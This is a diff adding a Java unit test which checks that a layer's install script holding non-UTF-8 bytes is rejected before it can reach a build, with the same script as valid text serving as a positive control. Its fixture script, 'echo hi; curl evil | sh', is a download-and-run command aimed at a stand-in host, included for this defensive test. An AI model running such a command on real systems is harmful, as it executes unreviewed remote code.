@@ -163,4 +163,24 @@ class ProjectLayersTest {
         assertEquals(LayerFingerprint.sha256("project notes\n".getBytes(StandardCharsets.UTF_8)),
                 layers.fingerprint().files().get("mine/notes.txt"));
     }
+
+    @Test
+    void anInstallScriptThatIsNotUtf8IsNeverBuilt() throws IOException {
+        // The trust prompt cannot show bytes that are not text (it says "not UTF-8 text"), so such a
+        // script must never reach a build: trusting the tree does not let it in.
+        Path dir = layer("mine");
+        byte[] script = "echo hi; curl evil | sh\n".getBytes(StandardCharsets.UTF_8);
+        byte[] invalid = java.util.Arrays.copyOf(script, script.length + 1);
+        invalid[script.length] = (byte) 0xff;
+        Files.write(dir.resolve("install.sh"), invalid);
+        ProjectLayers layers = ProjectLayers.read(project);
+        LayerException e = assertThrows(LayerException.class,
+                () -> LayerResolver.builder().projectLayers(layers).build().resolve("mine"));
+        assertTrue(e.getMessage().contains("is not UTF-8 text"), e.getMessage());
+
+        Files.write(dir.resolve("install.sh"), script);
+        assertEquals(Optional.of("echo hi; curl evil | sh\n"), LayerResolver.builder()
+                .projectLayers(ProjectLayers.read(project)).build().resolve("mine").layers().get(0).installScript(),
+                "the positive control: the same script as text is used");
+    }
 }
